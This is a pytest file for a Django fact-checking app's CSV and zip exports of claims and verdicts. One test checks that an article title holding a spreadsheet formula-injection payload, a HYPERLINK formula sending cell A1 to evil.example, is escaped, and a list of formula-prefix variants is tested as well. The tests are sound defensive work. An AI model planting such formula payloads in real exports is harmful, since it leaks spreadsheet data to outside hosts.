"""Claims and verdicts as tables that a spreadsheet reads and does not reckon with."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import TYPE_CHECKING

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import given
from hypothesis import strategies as st

from claims.formats.claims_csv import CLAIMS, VERDICTS
from claims.formats.table_csv import defused, write_table
from claims.models import Article, Claim, GradeOverride
from claims.pipeline.export import export
from claims.sourcing.grades import grades_of
from tests import factories
from tests.filled import filled_article

if TYPE_CHECKING:
    from tests.conftest import Cast


def table(cast: Cast, fmt: str) -> list[dict[str, str]]:
    data = b"".join(export(project=cast.project, fmt=fmt, viewer=None)).decode()
    assert data.startswith("article_id,")
    return list(csv.DictReader(io.StringIO(data, newline="")))


@pytest.mark.django_db
def test_a_row_a_claim(cast: Cast) -> None:
    article = filled_article(cast, claims=2)
    claim = Claim.objects.earliest("number")
    first, second = table(cast, "csv")
    assert tuple(first) == CLAIMS
    assert (first["claim_id"], first["number"], first["claim"]) == (str(claim.pk), str(claim.number), claim.text)
    text = article.latest().text
    assert text[int(first["start"]) : int(first["end"])] == first["quote"]
    assert (first["source"], first["chain"]) == ("the statistics office", "the statistics office < a source")
    outcome = (first["state"], first["finding"], first["rating"], first["rating_label"], first["rating_value"])
    assert outcome == ("settled", "confirmed", "mostly-true", "Mostly true", "4")
    assert (first["verdicts"], first["evidence"], first["basis"]) == ("2", "1", "editor")
    assert second["claim_id"] != first["claim_id"]


@pytest.mark.django_db
def test_the_sourcing_grade_is_that_of_the_pages_whoever_set_it(cast: Cast) -> None:
    filled_article(cast, claims=3)
    lifted = Claim.objects.get(number=2)
    GradeOverride.objects.create(claim=lifted, grade="A", reason="Nobody was asked.", by=cast.editor)
    grades = {str(pk): graded.letter for pk, graded in grades_of(Claim.objects.all()).items()}
    assert grades[str(lifted.pk)] == "A"
    assert len(set(grades.values())) == 2
    assert {row["claim_id"]: row["sourcing_grade"] for row in table(cast, "csv")} == grades
    pack = zipfile.ZipFile(io.BytesIO(b"".join(export(project=cast.project, fmt="pack", viewer=None))))
    rows = csv.DictReader(io.StringIO(pack.read("claims.csv").decode(), newline=""))
    assert {row["claim_id"]: row["sourcing_grade"] for row in rows} == grades


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "pack"])
def test_grades_take_queries_a_batch_and_not_a_claim(cast: Cast, fmt: str) -> None:
    def queries() -> int:
        with CaptureQueriesContext(connection) as seen:
            b"".join(export(project=cast.project, fmt=fmt, viewer=None))
        return len(seen)

    filled_article(cast, claims=2)
    few = queries()
    filled_article(cast, claims=4)
    filled_article(cast, claims=4)
    assert queries() == few


@pytest.mark.django_db
def test_a_row_a_verdict_with_what_was_superseded(cast: Cast) -> None:
    filled_article(cast)
    rows = table(cast, "csv-verdicts")
    assert tuple(rows[0]) == VERDICTS
    assert [(row["by"], row["rating"], row["rating_value"], row["superseded"]) for row in rows] == [
        ("reviewer", "true", "5", "yes"),
        ("reviewer", "mostly-true", "4", ""),
        ("second_reviewer", "unproven", "", ""),
    ]
    assert [row["cited"] for row in rows] == ["0", "1", "0"]


@pytest.mark.django_db
def test_what_is_in_the_trash_is_left_out(cast: Cast) -> None:
    filled_article(cast, claims=2)
    Claim.objects.filter(number=1).update(deleted_at="2026-05-02T00:00:00Z")
    assert len(table(cast, "csv")) == 1
    Article.objects.update(deleted_at="2026-05-02T00:00:00Z")
    assert table(cast, "csv") == []


@pytest.mark.django_db
def test_a_title_that_would_be_a_formula_is_words(cast: Cast) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"Look")'
    article = factories.make_article(cast.project, title=title)
    factories.make_claim(article.latest())
    [row] = table(cast, "csv")
    assert row["article_title"] == f"'{title}"


FORMULAS = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", '"=1', "\ufeff=1", "\u200b@x", "＝1", "\n-1"]


@pytest.mark.parametrize("words", FORMULAS)
def test_formulas_are_defused(words: str) -> None:
    assert defused(words) == f"'{words}"


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2))
def test_the_same_words_come_back(words: list[str]) -> None:
    data = write_table(["a", "b"], [dict(zip("ab", words, strict=True))]).decode()
    [_names, row] = list(csv.reader(io.StringIO(data, newline="")))
    assert row == [defused(one) for one in words]
    assert not any(cell.lstrip()[:1] in set("=+-@") for cell in row if cell.strip())
